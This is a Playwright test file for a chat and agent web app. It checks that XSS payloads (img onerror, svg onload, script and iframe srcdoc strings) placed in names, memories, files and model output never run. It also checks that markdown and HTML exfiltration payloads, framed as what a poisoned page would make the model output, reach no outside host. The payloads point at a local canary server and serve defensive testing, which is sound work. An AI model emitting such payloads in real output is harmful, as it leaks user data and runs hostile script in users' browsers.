/**
 * Hostile texts in every field that the page shows, with the real program: no script runs, and no request leaves for
 * other hosts.
 */
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { test } from "@playwright/test";
import { launch, openPage, unfold } from "./browser.mjs";
import { ada, setUp } from "./people.mjs";
import { hostileDiagrams, requestRoutes } from "./markdown/diagrams.mjs";
import { hostile } from "./markdown/hostile.mjs";
import { calls, startGlasshouse, startModel, text, turn } from "./programs.mjs";

test.describe.configure({ mode: "serial" });

/** Short ones, for single-line fields. */
const LINES = [
  "<img src=x onerror=pwn()>",
  "<svg onload=pwn()>",
  '"><script>pwn()</script>',
  "javascript:pwn()",
  "${pwn()}{{pwn()}}",
  '<iframe srcdoc="<script>parent.pwn()</script>">',
];
const LINE = LINES.join(" ").slice(0, 190);

let browser, glasshouse, model, page, canary, diagrams;
const seen = { canary: [], elsewhere: [] };

/** What a poisoned page would make the model say in order to leak data. */
const leaks = (at) =>
  [
    `![a](${at}/image?q=secret)`,
    `![b][ref]\n\n[ref]: ${at}/reference?q=secret`,
    `<img src="${at}/html?q=secret">`,
    `<link rel=stylesheet href="${at}/style.css"><style>@import "${at}/import.css";</style>`,
    `<video src="${at}/video"></video><audio src="${at}/audio"></audio><object data="${at}/object"></object>`,
    `[link](${at}/link?q=secret "t")`,
    `<meta http-equiv="refresh" content="0;url=${at}/refresh">`,
    `![c](https://canary.invalid/c.png)`,
    "$\\includegraphics{" + at + "/maths.png}$",
    "```svg\n<svg xmlns='http://www.w3.org/2000/svg'><image href='" + at + "/svg.png'/></svg>\n```",
    "```html\n<img src='" + at + "/code.png'>\n```",
  ].join("\n\n");

test.beforeAll(async () => {
  canary = createServer((request, response) => {
    seen.canary.push(`${request.url} ${request.headers.referer ?? ""}`.trim());
    response.end();
  });
  // An HTTPS connection fails before the request is known.
  canary.on("connection", () => seen.canary.push("connection"));
  await new Promise((resolve) => canary.listen(0, "127.0.0.1", resolve));
  const at = `http://127.0.0.1:${canary.address().port}`;
  diagrams = hostileDiagrams(`127.0.0.1:${canary.address().port}`);
  const file = {
    path: `/${LINES[0].replaceAll("/", "")}.md`,
    content: `${hostile.slice(0, 20).join("\n\n")}`,
  };
  const cases = [
    {
      contains: "Show it all",
      turns: [
        turn(
          calls(
            ["write_file", file],
            ["write_todos", { todos: LINES.map((content) => ({ content, status: "pending" })) }],
            ["grep", { pattern: "onerror", path: "/" }],
            [LINES[0], { [LINES[1]]: LINES[2] }],
          ),
        ),
        turn(calls(["read_file", { path: file.path }], ["ls", { path: "/" }])),
        turn(text(`${hostile.join("\n\n")}\n\n${leaks(at)}`)),
      ],
    },
    {
      contains: "Ask",
      turns: [
        turn(calls(["ask_user", { question: LINE, options: LINES.slice(0, 4) }])),
        turn(text("Thank you.")),
      ],
    },
    {
      contains: "Draw them",
      turns: [turn(text(diagrams.map((source) => "```mermaid\n" + source + "\n```").join("\n\n")))],
    },
    { turns: [turn(text("Hello."))] },
  ];
  [browser, glasshouse, model] = await Promise.all([launch(), startGlasshouse(), startModel(cases)]);
  page = await openPage(browser, { url: glasshouse.url });
  await page.addInitScript(() => {
    globalThis.pwn = () => (document.documentElement.dataset.pwned = "yes");
  });
  page.on("dialog", (dialog) => {
    seen.elsewhere.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  const isElsewhere = (url) => url.origin !== glasshouse.url && !["data:", "blob:"].includes(url.protocol);
  // The render frame is known to try; what matters is that its CSP lets nothing out.
  const isOfFrame = (request) => request.frame().url() === `${glasshouse.url}/render-frame.html`;
  const watch = (kind, hasLeft) =>
    page.on(kind, (request) => {
      if (isElsewhere(new URL(request.url())) && hasLeft(request)) seen.elsewhere.push(request.url());
    });
  watch("request", (request) => !isOfFrame(request));
  watch("requestfailed", (request) => request.failure()?.errorText !== "csp");
  watch("requestfinished", () => true);
});
test.afterAll(async () => {
  await browser?.close();
  await Promise.all([glasshouse?.stop(), model?.stop()]);
  canary?.close();
});

/** Checks that no script has run, and no other host was contacted. */
async function unharmed() {
  // Late scripts and loads happen within these frames.
  await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => setTimeout(done, 300))));
  assert.equal(await page.evaluate(() => document.documentElement.dataset.pwned ?? "no"), "no", page.url());
  assert.deepEqual(seen, { canary: [], elsewhere: [] }, page.url());
}

const call = (method, path, body) =>
  page.evaluate(
    async ([method, path, body]) => {
      const response = await fetch(path, {
        method,
        body: typeof body === "string" ? body : JSON.stringify(body),
      });
      if (!response.ok) throw new Error(`${path}: ${response.status} ${await response.text()}`);
      return response.status === 204 ? undefined : response.json();
    },
    [method, path, body],
  );
const say = async (words) => {
  await page.getByRole("textbox", { name: "Message" }).fill(words);
  await page.keyboard.press("Enter");
};

/** Expands the folds of the answers, including nested ones, and returns how many. */
async function unfoldAll() {
  const folds = page.locator("article.assistant button:not([aria-haspopup])");
  const closed = folds.and(page.locator("[aria-expanded=false]"));
  let opened = 0;
  for (; (await closed.count()) > 0; opened += 1) {
    assert.ok(opened < 100, "a fold does not open");
    await closed.first().press("Enter");
  }
  return opened;
}

test("names, titles and texts of people", async () => {
  await setUp(page, { ...ada, name: LINES[0] });
  await call("POST", "/api/v1/connections", { name: LINES[1], base_url: model.url });
  await call("PUT", "/api/v1/settings/default-model", { model: "scripted" });
  await call("POST", "/api/v1/keys", { name: LINES[2] });
  await call("POST", "/api/v1/memories", {
    name: LINES[0],
    text: hostile.slice(0, 30).join("\n"),
    description: LINES[1],
  });
  await call("POST", "/api/v1/schedules", { name: LINE, prompt: LINE, cron: "0 9 * * *", time_zone: "UTC" });
  const chat = await call("POST", "/api/v1/chats", { title: LINE });
  for (const name of ["<img src=x onerror=pwn()>.svg", "a.html", "b.svg"]) {
    const path = encodeURIComponent(`/${name}`);
    const content = "<svg xmlns='http://www.w3.org/2000/svg' onload='pwn()'><script>pwn()</script></svg>";
    await call("PUT", `/api/v1/chats/${chat.id}/files/content?path=${path}`, content);
  }
  await page.goto(`/c/${chat.id}`);
  await page.getByRole("textbox", { name: "Message" }).waitFor();
  await unharmed();
});

test("what a model says, its calls and what they give", async () => {
  await say(`Show it all ${hostile.slice(0, 10).join(" ")}`);
  await page.getByRole("button", { name: "Regenerate" }).last().waitFor({ timeout: 60_000 });
  await unfold(page.locator("[data-steps-toggle]").last());
  assert.ok((await unfoldAll()) >= 6, "not every call was opened");
  await unharmed();
  const shown = await page.locator("article.assistant").last().innerText();
  assert.ok(shown.includes("pwn()") && shown.includes("onerror"), shown.slice(0, 500));
  await page.reload();
  await page.getByRole("button", { name: "Regenerate" }).last().waitFor();
  await unharmed();
});

test("what an agent asks, in the chat and in the inbox", async () => {
  await say("Ask");
  await page.getByRole("region", { name: /asks$/ }).waitFor();
  await unharmed();
  await page.goto("/inbox");
  await page.getByText("onerror=pwn()").first().waitFor();
  await unharmed();
});

test("every page of the settings", async () => {
  await page.goto("/settings");
  await page.getByRole("navigation").first().waitFor();
  const hrefs = (links) => links.evaluateAll((all) => all.map((a) => a.getAttribute("href")));
  const links = new Set(await hrefs(page.locator('a[href^="/settings"]')));
  // Tabs, which are seen on the way, are visited in the same loop.
  for (const link of links) {
    await page.goto(link);
    await page.getByRole("heading").first().waitFor();
    await unharmed();
    for (const tab of await hrefs(page.locator("main .tabs a"))) links.add(tab);
  }
  assert.ok(links.size >= 19, `only ${[...links]}`);
});

test("a file that is a page is saved and not shown", async () => {
  const chats = await call("GET", "/api/v1/chats?limit=1");
  const at = `/api/v1/chats/${chats.chats[0].id}/files/content?path=`;
  for (const name of ["a.html", "b.svg"]) {
    const headers = await page.evaluate(
      async (at) => Object.fromEntries((await fetch(at)).headers),
      `${at}/${name}`,
    );
    assert.match(headers["content-disposition"], /^attachment/);
    assert.equal(headers["x-content-type-options"], "nosniff");
    assert.equal(headers["content-type"], "application/octet-stream");
  }
  await unharmed();
});

test("diagrams, each of which was drawn or refused", async () => {
  await page.goto("/");
  await say("Draw them");
  await page.getByRole("button", { name: "Regenerate" }).last().waitFor({ timeout: 60_000 });
  const blocks = page.locator("article.assistant").last().locator(".md-code");
  assert.equal(await blocks.count(), diagrams.length);
  const drawn = [];
  for (let at = 0; at < diagrams.length; at += 1) {
    const block = blocks.nth(at);
    await block.scrollIntoViewIfNeeded();
    await block.locator(".md-diagram:not([hidden]), .md-note").first().waitFor();
    if ((await block.locator(".md-note").count()) === 0) drawn.push(diagrams[at]);
  }
  await unharmed();
  // Otherwise a frame that rejected everything would pass this test.
  for (const source of requestRoutes(`127.0.0.1:${canary.address().port}`))
    assert.ok(drawn.includes(source), source);
  assert.ok(drawn.length > 25, `only ${drawn.length} were drawn`);
});

test("the document in which they are drawn has no origin, no network and no way out", async () => {
  const frame = page.frames().find((other) => other.url() === `${glasshouse.url}/render-frame.html`);
  const at = `http://127.0.0.1:${canary.address().port}`;
  const tried = await frame.evaluate(async (at) => {
    const image = () =>
      new Promise((resolve, reject) => {
        const made = Object.assign(new Image(), { onload: resolve, onerror: reject });
        made.src = `${at}/image`;
      });
    const socket = () =>
      new Promise((resolve, reject) => {
        const made = new WebSocket(at.replace("http", "ws"));
        [made.onopen, made.onerror] = [resolve, reject];
      });
    const script = () =>
      new Promise((resolve, reject) => {
        const made = Object.assign(document.createElement("script"), { onload: resolve, onerror: reject });
        made.src = "/theme.js";
        document.head.append(made);
      });
    const ways = {
      fetch: () => fetch(at),
      own: () => fetch("/api/v1/me"),
      ...{ image, socket, script },
      storage: () => localStorage.length,
      cookie: () => document.cookie,
      page: () => parent.document.title,
      top: () => (top.location.href = "about:blank"),
      window: () => open("about:blank") ?? Promise.reject(new Error("refused")),
      code: () => new Function("return 1")(),
    };
    // sendBeacon returns before it is blocked.
    navigator.sendBeacon(at, "secret");
    const worked = [];
    for (const [name, way] of Object.entries(ways)) {
      try {
        await way();
        worked.push(name);
      } catch {
        // As expected.
      }
    }
    return { origin: globalThis.origin, worked };
  }, at);
  assert.deepEqual(tried, { origin: "null", worked: [] });
  assert.deepEqual(seen, { canary: [], elsewhere: [] });
});

test("the watch is awake", async () => {
  await fetch(`http://127.0.0.1:${canary.address().port}/seen`);
  assert.deepEqual(seen.canary.splice(0), ["connection", "/seen"]);
  await page.evaluate(() => globalThis.pwn());
  await assert.rejects(unharmed(), /yes/);
});
